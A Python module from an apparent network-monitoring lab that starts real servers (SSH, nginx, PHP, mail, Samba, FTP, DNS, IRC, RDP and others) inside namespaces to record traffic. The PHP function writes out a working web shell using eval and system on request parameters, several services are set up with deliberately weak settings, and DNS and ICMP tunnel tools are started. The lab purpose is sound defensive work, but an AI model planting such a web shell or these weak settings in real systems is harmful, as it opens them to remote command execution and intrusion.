# SPDX-FileCopyrightText: Lagewarte contributors
# SPDX-License-Identifier: EUPL-1.2
"""The real servers of the recordings, each started in a namespace of the lab.

Every function starts one server with a configuration of its own in the lab's
folder and returns when its port is open. Starting the same server twice in
the same place is a no-op, so that scenarios can ask for what they need.

Never: read or change a configuration of the host. Certificates, keys and
passwords are made for the run and are worth nothing outside it.
"""

import os

from lab import SRV, run

PASSWORD = "Sommer-2026"


def once(function):
    """Starts a server only where it does not run yet."""

    def start(lab, where="srv", **options):
        key = (function.__name__, where, tuple(sorted(options.items())))
        started = lab.__dict__.setdefault("started", set())
        if key not in started:
            function(lab, where, **options)
            started.add(key)

    start.__doc__ = function.__doc__
    return start


def certificate(lab):
    """Paths of a self-signed certificate and its key."""
    cert, key = lab.path("cert.pem"), lab.path("key.pem")
    if not os.path.exists(cert):
        run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "30",
             "-subj", "/CN=rathaus.musterstadt.example", "-keyout", key, "-out", cert])
        os.chmod(key, 0o644)
    return cert, key


@once
def sshd(lab, where):
    """OpenSSH; root may log in with the key `ssh-user`, passwords are offered and always fail."""
    os.makedirs("/run/sshd", exist_ok=True)
    for name in ("ssh-host", "ssh-user"):
        run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", lab.path(name)])
    config = lab.write("sshd.conf", f"""Port 22
HostKey {lab.path('ssh-host')}
AuthorizedKeysFile {lab.path('ssh-user.pub')}
StrictModes no
UsePAM no
PasswordAuthentication yes
PermitRootLogin prohibit-password
MaxAuthTries 3
PidFile none
Subsystem sftp internal-sftp
""")
    lab.daemon(where, "/usr/sbin/sshd", "-D", "-e", "-f", config, tcp=22)


@once
def nginx(lab, where, port=80):
    """nginx with one page, one picture, one password area; also TLS on 443 (for port 80)."""
    cert, key = certificate(lab)
    lab.write("www/index.html", "<!doctype html><title>Musterstadt</title><h1>Willkommen</h1>" + "<p>Rathaus.</p>" * 20)
    lab.write("www/oeffnungszeiten.html", "<!doctype html><title>Zeiten</title>" + "<p>Mo bis Fr 8 bis 12 Uhr</p>" * 10)
    lab.write("www/intern/plan.html", "<!doctype html><title>Plan</title>")
    lab.write("htpasswd", "amt:" + run(["openssl", "passwd", "-apr1", PASSWORD]).stdout)
    with open(lab.path("www/setup.exe"), "wb") as file:
        # The shape of a Windows program; there is no code in it.
        file.write(b"MZ" + bytes(76) + b"!This program cannot be run in DOS mode.\r\r\n$" + bytes(600) + b"PE\0\0" + bytes(900))
    tls = f"server {{ listen 443 ssl; listen [::]:443 ssl; ssl_certificate {cert}; ssl_certificate_key {key}; root {lab.path('www')}; }}"
    config = lab.write(f"nginx-{where}-{port}.conf", f"""daemon off; master_process off; pid {lab.path(f'nginx-{where}-{port}.pid')};
error_log stderr; events {{ worker_connections 128; }}
http {{ access_log off; client_body_temp_path {lab.path('nginx-body')}; proxy_temp_path {lab.path('nginx-proxy')};
fastcgi_temp_path {lab.path('nginx-f')}; uwsgi_temp_path {lab.path('nginx-u')}; scgi_temp_path {lab.path('nginx-s')};
server {{ listen {port}; listen [::]:{port}; root {lab.path('www')};
location /intern/ {{ auth_basic "intern"; auth_basic_user_file {lab.path('htpasswd')}; }} }}
{tls if port == 80 else ''} }}
""")
    lab.daemon(where, "nginx", "-c", config, tcp=port)


@once
def php(lab, where, port=8080):
    """PHP's own web server as user www-data: a form, a search, and the web shells that attackers left."""
    lab.write("php/formular.php", "<?php echo 'Danke, ', htmlspecialchars($_POST['name'] ?? 'Gast'), \"\\n\";")
    lab.write("php/submit.php", "<?php echo 'ok';")
    lab.write("php/suche.php", "<?php echo 'Treffer zu ', htmlspecialchars($_GET['q'] ?? ''), \": 3\\n\";")
    lab.write("php/bilder/x.php", "<?php if (isset($_POST['z'])) { @eval($_POST['z']); } "
              "if (isset($_REQUEST['cmd'])) { system($_REQUEST['cmd']); }")
    lab.write("php/konto.php", "<?php echo 'Ihre Kundennummer: uid=4711 (Frau Muster), Gruppe gid=12', \"\\n\";")
    lab.daemon(where, "setpriv", "--reuid=www-data", "--regid=www-data", "--clear-groups", "--inh-caps=+net_bind_service",
               "--ambient-caps=+net_bind_service", "php", "-S", f"0.0.0.0:{port}", "-t", lab.path("php"), tcp=port)


@once
def dovecot(lab, where):
    """Dovecot with IMAP and POP3, STARTTLS offered; account amt."""
    cert, key = certificate(lab)
    os.makedirs(lab.path("mail/amt"), exist_ok=True)
    lab.write("mail/users", f"amt:{{PLAIN}}{PASSWORD}:8:8::{lab.path('mail/amt')}::\n")
    run(["chown", "-R", "mail:mail", lab.path("mail")])
    config = lab.write("dovecot.conf", f"""protocols = imap pop3
base_dir = {lab.path('dovecot-run')}
state_dir = {lab.path('dovecot-state')}
log_path = /dev/stderr
auth_mechanisms = plain
disable_plaintext_auth = no
first_valid_uid = 1
mail_location = maildir:~/Maildir
ssl = yes
ssl_cert = <{cert}
ssl_key = <{key}
passdb {{
  driver = passwd-file
  args = {lab.path('mail/users')}
}}
userdb {{
  driver = passwd-file
  args = {lab.path('mail/users')}
}}
""")
    lab.daemon(where, "dovecot", "-F", "-c", config, tcp=143)


@once
def smbd(lab, where):
    """Samba with one share for guests; accepts SMB1 to SMB3, so that the client decides."""
    for name in ("samba/akten", "samba/state", "samba/cache", "samba/lock", "samba/private", "samba/pid", "samba/rpc"):
        os.makedirs(lab.path(name), exist_ok=True)
        os.chmod(lab.path(name), 0o755)
    os.chmod(lab.path("samba/akten"), 0o777)
    lab.write("samba/akten/bescheid.txt", "Sehr geehrte Damen und Herren,\n" * 30)
    config = lab.write("smb.conf", f"""[global]
server role = standalone server
netbios name = RATHAUS
workgroup = MUSTERSTADT
map to guest = Bad User
guest account = nobody
server min protocol = NT1
disable spoolss = yes
load printers = no
smb ports = 445
state directory = {lab.path('samba/state')}
cache directory = {lab.path('samba/cache')}
lock directory = {lab.path('samba/lock')}
private dir = {lab.path('samba/private')}
pid directory = {lab.path('samba/pid')}
ncalrpc dir = {lab.path('samba/rpc')}
log file = {lab.path('samba/log')}
[akten]
path = {lab.path('samba/akten')}
guest ok = yes
read only = no
""")
    lab.daemon(where, "smbd", "-F", "--no-process-group", "-s", config, tcp=445)


@once
def ftp(lab, where, user=""):
    """pyftpdlib on port 21: anonymous, or one account if `user` is given."""
    os.makedirs(lab.path("ftp"), exist_ok=True)
    lab.write("ftp/satzung.txt", "Satzung\n" * 20)
    account = ["-u", user, "-P", PASSWORD] if user else []
    lab.daemon(where, "/usr/bin/python3", "-m", "pyftpdlib", "-p", "21", "-i", SRV, "-d", lab.path("ftp"), *account, tcp=21)


@once
def smtp(lab, where):
    """aiosmtpd on port 587: STARTTLS offered, AUTH accepted with and without it."""
    cert, key = certificate(lab)
    script = lab.write("smtpd.py", f"""import signal, ssl
from aiosmtpd.controller import Controller
from aiosmtpd.handlers import Sink
from aiosmtpd.smtp import AuthResult
context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
context.load_cert_chain({cert!r}, {key!r})
for port in (25, 587):
    Controller(Sink(), hostname='0.0.0.0', port=port, server_hostname='mail.musterstadt.example', tls_context=context,
               auth_require_tls=False, authenticator=lambda *a: AuthResult(success=True)).start()
signal.pause()
""")
    lab.daemon(where, "/usr/bin/python3", script, tcp=587)


@once
def dns(lab, where):
    """dnsmasq with a few names; answers only from its own records."""
    lab.daemon(where, "dnsmasq", "-k", "-C", "/dev/null", "-R", "-h", "--pid-file=", "--user=root", "--bind-interfaces",
               "--interface=eth0", "--local=/example/",
               "--address=/www.musterstadt.example/198.51.100.80", "--address=/updates.example/198.51.100.80",
               "--mx-host=musterstadt.example,mail.musterstadt.example,10",
               "--txt-record=musterstadt.example,v=spf1 mx -all",
               "--txt-record=_dmarc.musterstadt.example,v=DMARC1; p=reject",
               "--txt-record=s2026._domainkey.musterstadt.example,v=DKIM1; k=ed25519; p=11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo=",
               udp=53)


@once
def iodined(lab, where):
    """iodine's server for the zone t.example."""
    lab.daemon(where, "iodined", "-f", "-c", "-P", "tunnel", "10.99.0.1/27", "t.example", udp=53)


@once
def chronyd(lab, where):
    """chrony as a time server; `-x` keeps its hands off the clock of the host."""
    config = lab.write(f"chrony-{where}.conf", f"local stratum 8\nallow all\ncmdport 0\nport 123\npidfile {lab.path(f'chrony-{where}.pid')}\nbindcmdaddress /\n")
    lab.daemon(where, "chronyd", "-x", "-d", "-u", "root", "-f", config, udp=123)


@once
def ngircd(lab, where):
    """ngIRCd without look-ups."""
    config = lab.write("ngircd.conf", """[Global]
Name = irc.example
Info = IRC
Listen = 0.0.0.0
Ports = 6667
MotdPhrase = Hallo
ServerUID = nobody
ServerGID = nogroup
AdminInfo1 = a
AdminInfo2 = b
AdminEMail = a@irc.example
[Options]
DNS = no
Ident = no
PAM = no
""")
    lab.daemon(where, "ngircd", "-n", "-f", config, tcp=6667)


@once
def tftpd(lab, where):
    """atftpd with one file."""
    os.makedirs(lab.path("tftp"), exist_ok=True)
    lab.write("tftp/telefon.cfg", "sprache=de\n" * 60)
    lab.daemon(where, "atftpd", "--daemon", "--no-fork", "--user", "root", "--group", "root", lab.path("tftp"), udp=69)


@once
def telnetd(lab, where):
    """inetd with telnetd."""
    config = lab.write("inetd.conf", "telnet stream tcp nowait root /usr/sbin/telnetd telnetd -h\n")
    lab.daemon(where, "inetutils-inetd", "-d", config, tcp=23)


@once
def xrdp(lab, where):
    """xrdp with TLS; sessions are refused behind the logon window."""
    cert, key = certificate(lab)
    config = lab.write("xrdp.ini", f"""[Globals]
ini_version=1
fork=true
port=3389
tcp_nodelay=true
security_layer=negotiate
crypt_level=high
certificate={cert}
key_file={key}
ssl_protocols=TLSv1.2, TLSv1.3
max_bpp=16
bitmap_compression=true
[Logging]
LogFile={lab.path('xrdp.log')}
LogLevel=INFO
EnableSyslog=false
[Channels]
[Xorg]
name=Xorg
lib=libxup.so
username=ask
password=ask
ip=127.0.0.1
port=-1
code=20
""")
    lab.daemon(where, "xrdp", "--nodaemon", "--config", config, tcp=3389)


@once
def ptunnel_proxy(lab, where):
    """ptunnel's far end; the kernel's own echo replies are off in that namespace."""
    run(lab.inside(where, ["sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=1"]))
    lab.daemon(where, "ptunnel")


def ptunnel_client(lab, where, proxy, port, target, target_port):
    """ptunnel's near end: a local TCP port that leads through ICMP."""
    lab.daemon(where, "ptunnel", "-p", proxy, "-lp", str(port), "-da", target, "-dp", str(target_port), tcp=port)
